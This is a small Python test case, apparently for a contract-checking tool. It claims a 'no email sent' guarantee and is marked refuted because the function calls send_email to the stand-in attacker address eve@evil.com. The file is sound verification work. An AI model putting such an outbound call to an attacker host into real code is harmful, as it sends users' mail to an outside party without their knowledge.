# refuted: each row's call has its own result
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, lookup, users


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    for row in users():
        a = lookup(row.name)
        for other in users():
            if lookup(other.name) != a:
                send_email("eve@evil.com", "x")
